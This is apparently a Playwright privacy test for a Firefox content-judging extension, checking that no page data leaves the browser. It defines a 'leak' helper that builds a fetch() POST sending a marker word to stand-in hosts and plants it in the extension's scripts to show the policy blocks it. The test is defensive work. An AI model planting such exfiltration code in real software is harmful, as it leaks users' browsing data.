import { expect, test } from '@playwright/test';
import { FirefoxBrowser } from '../../tools/firefox.ts';
import { distOf } from '../../tools/manifest.ts';
import { type LoggingProxy, startLoggingProxy } from '../e2e/loggingProxy.ts';
import { Planted } from '../e2e/planted.ts';
import { tried } from '../e2e/proof.ts';

/**
 * Nothing leaves Firefox either: the proof of test/e2e/privacy.spec.ts, with the event page in the place
 * of offscreen page and service worker.
 */
const CANARIES = ['quillfish', 'zorblatt', 'pemmicanry'];
const PAGE = 'http://town.test/';
const HTML = `<!doctype html><html lang="en"><title>Town</title>
<p>The quillfish has moved to the harbour, and nobody knows why it went there.</p>
<p>Congratulations! You have won a free zorblatt cruise! Click now to claim your prize!!!</p>
<p>You are a silly fool and nobody wants you here, you stupid pemmicanry.</p>`;

const SCRIPTS = ['content', 'worker', 'background'] as const;
/** Code that sends a word of the page to a host that is named after the script it is planted in. */
const leak = (script: string) =>
  `fetch('http://${script}.test/', { method: 'POST', mode: 'no-cors', body: '${CANARIES[0]}' }).catch(() => {});`;

let proxy: LoggingProxy;
let planted: Planted;

test.beforeEach(async () => {
  proxy = await startLoggingProxy({ [PAGE]: HTML });
  planted = await Planted.make('firefox');
});
test.afterEach(async () => {
  await proxy.close();
  await planted.remove();
});

/** Reads the page; with an extension, also teaches it something and restarts its engine. */
async function walk(extension: string | null, isWhole = true): Promise<void> {
  const inkling = await FirefoxBrowser.launch({ extension, prefs: proxy.prefs });
  try {
    const page = await inkling.open(PAGE);
    if (extension && isWhole) {
      expect((await inkling.judged(page)).blocks).toBe(3);
      const popup = await inkling.openPopup(page);
      await (await popup.waitForSelector('button::-p-text(Wrong)'))!.click();
      await popup.waitForSelector('::-p-text(You said)');
      await inkling.killEventPage();
      await page.reload();
      await inkling.judged(page);
    }
    // Whatever waits for an idle moment gets one.
    await new Promise((resolve) => setTimeout(resolve, 1500));
  } finally {
    await inkling.close();
  }
}

function canariesIn(log: readonly string[]): string[] {
  return CANARIES.filter((word) => log.some((entry) => entry.includes(word)));
}

test('the extension causes no connection, and nothing of the page leaves', async () => {
  await walk(null);
  const hostsWithout = proxy.hosts();
  expect(hostsWithout).toEqual(['town.test']);

  await walk(distOf('firefox'));
  expect(proxy.hosts()).toEqual(hostsWithout);
  expect(canariesIn(proxy.log)).toEqual([]);
  tried(
    'leaves',
    'a walk behind a logging proxy with marker words: read, correct, kill, read again',
    1,
    `hosts ${proxy.hosts().join(', ')}, with and without Inkling; 0 of ${CANARIES.length} marker words in what was sent`,
  );
});

test('leaks planted in the extension’s own contexts are stopped by the policy, one in the content script is seen', async () => {
  for (const script of SCRIPTS) await planted.plant(script, leak(script));
  await walk(planted.folder);
  expect(proxy.hosts()).toContain('content.test');
  expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
  expect(proxy.hosts()).not.toContain('worker.test');
  expect(proxy.hosts()).not.toContain('background.test');
  tried(
    'leaves',
    'a leak planted in worker and event page is stopped by the policy; control: one in the content script is seen',
    1,
  );
});

test('without the policy, those in the extension’s own contexts are seen', async () => {
  for (const script of SCRIPTS) await planted.plant(script, leak(script));
  await planted.loosenPolicy();
  await walk(planted.folder, false);
  for (const script of SCRIPTS) expect(proxy.hosts()).toContain(`${script}.test`);
  expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
  tried(
    'leaves',
    'control: without the policy, leaks planted in worker and event page are seen',
    SCRIPTS.length,
  );
});
